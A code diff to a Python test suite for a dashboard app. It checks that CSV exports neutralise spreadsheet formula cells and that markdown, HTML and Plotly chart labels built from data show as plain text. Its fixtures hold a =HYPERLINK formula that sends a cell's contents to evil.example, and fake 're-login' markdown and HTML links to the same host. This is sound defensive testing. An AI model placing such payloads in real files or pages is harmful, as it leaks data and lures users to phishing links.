@@ -18,6 +18,7 @@ from tests.dashboards.conftest import doctored, drawn_downloads, open_app, switc
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
 LINK, IMAGE = "[重新登录](https:evil.example)", "![t](https:evil.example)"
+CHART_LINK = '<a href="https://evil.example/grid">点我</a>'   # plotly draws <a href> in labels as a link
 
 
 def _export_script():
@@ -27,7 +28,7 @@ def _export_script():
 
     text = ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", None]
     audited_download("CSV", pd.DataFrame({"text": text, "number": [-1.5, -2, 3, 0, 1e9, -0.0, 7, 8, None],
-                                          "count": range(-4, 5)}), "t.csv", "export_test", key="t")
+                                          "count": range(-4, 5)}), "t.csv", "export", key="t")
 
 
 def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, monkeypatch):
@@ -88,14 +89,18 @@ def test_source_and_user_names_from_data_are_text_in_markdown(world, tmp_path, m
 
 
 def hostile_world(world, marts, tmp_path):
-    """The world's snapshot with two landing folders named like markdown links, and a user named like one."""
+    """The world's snapshot with two landing folders named like markdown links, a grid named like an HTML link
+    (in the population page's charts), and a user named like a markdown link."""
     freshness = marts.execute("select * from marts.mart_source_freshness").df()
     stray = pd.concat([freshness.iloc[[0]].assign(source_name=name, name_zh=name, name_en=name, delivery="unknown",
                                                   stale_after_days=pd.NA, last_landed_on=pd.NaT,
                                                   last_loaded_on=pd.NaT, last_ingested_at=pd.NaT, files_landed=0,
                                                   unexpected_files=1, is_unknown_source=True)
                        for name in (LINK, IMAGE)], ignore_index=True)
-    data_dir = doctored(world, tmp_path, mart_source_freshness=pd.concat([freshness, stray], ignore_index=True))
+    grids = marts.execute("select * from marts.mart_population_by_grid").df()
+    grids.loc[0, "name_zh"] = CHART_LINK
+    data_dir = doctored(world, tmp_path, mart_source_freshness=pd.concat([freshness, stray], ignore_index=True),
+                        mart_population_by_grid=grids)
     (data_dir / "users.json").write_text(json.dumps({"users": [
         {"user_id": "leader", "display_name": LINK, "role": "leader", "grids": None}]}), encoding="utf-8")
     return data_dir
